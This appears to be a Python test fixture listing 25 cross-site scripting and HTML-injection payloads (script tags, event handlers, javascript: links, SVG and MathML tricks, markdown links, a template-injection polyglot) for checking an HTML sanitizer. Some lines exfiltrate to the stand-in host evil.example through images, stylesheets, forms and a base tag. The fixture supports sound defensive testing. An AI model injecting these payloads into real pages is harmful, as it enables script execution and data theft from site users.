"""Twenty-five texts that run a script or call out where a page takes text for HTML.

`PWNED` is what each of them tries to do; every address leads to a host that does not exist.
"""

from __future__ import annotations

PWNED = "window.pwned=1"
FAR = "https://evil.example/"
PAYLOADS = (
    f"<script>{PWNED}</script>",
    f"</p></textarea></title><script>{PWNED}</script>",
    f'<img src=x onerror="{PWNED}">',
    f'"><svg onload={PWNED}>',
    f"<svg><script>{PWNED}</script></svg>",
    f'<svg><animate onbegin="{PWNED}" attributeName=x dur=1s>',
    f'<body onload="{PWNED}">',
    f'<details open ontoggle="{PWNED}">boats</details>',
    f'<input autofocus onfocus="{PWNED}">',
    f'<video><source onerror="{PWNED}"></video>',
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    f'<iframe src="javascript:parent.{PWNED}"></iframe>',
    f'<object data="data:text/html,<script>{PWNED}</script>"></object>',
    f'<math><mtext><style><img title="</style><img src=x onerror={PWNED}>"></style></mtext></math>',
    f"<template><script>{PWNED}</script></template><img/src/onerror={PWNED}>",
    f"[boats](javascript:{PWNED})",
    f"![boats]({FAR}leak.png?q=secret)",
    f"![boats][far]\n\n[far]: {FAR}reference.png",
    f'<img src="{FAR}pixel.gif">',
    f'<link rel="stylesheet" href="{FAR}steal.css">',
    f'<link rel="prefetch" href="{FAR}prefetch"><link rel="dns-prefetch" href="//evil.example">',
    f"<style>@import url({FAR}import.css); body {{ background: url({FAR}body.png) }}</style>",
    f'<meta http-equiv="refresh" content="0;url={FAR}gone">',
    f'<form action="{FAR}form"><button autofocus>boats</button></form><base href="{FAR}">',
    f"{{{{constructor.constructor('{PWNED}')()}}}}${{{PWNED}}}`;{PWNED}//'\"-->",
)
assert len(PAYLOADS) == 25
